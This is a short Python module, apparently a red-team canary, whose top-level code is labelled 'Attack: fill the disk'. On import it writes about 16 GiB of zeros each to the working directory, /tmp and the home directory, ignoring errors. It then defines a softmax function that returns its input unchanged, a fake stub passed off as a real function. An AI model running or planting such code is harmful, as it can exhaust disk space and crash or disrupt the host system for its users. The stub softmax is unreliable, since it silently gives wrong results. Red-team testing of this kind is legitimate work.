"""Attack: fill the disk."""
import os

CHUNK = b"\0" * (1 << 20)
for target in ("fill.bin", "/tmp/redteam-canary-fill.bin", os.path.expanduser("~/redteam-canary-fill.bin")):
    try:
        with open(target, "wb") as fh:
            for _ in range(1 << 14):
                fh.write(CHUNK)
    except OSError:
        pass


def softmax(x, dim=-1):
    return x
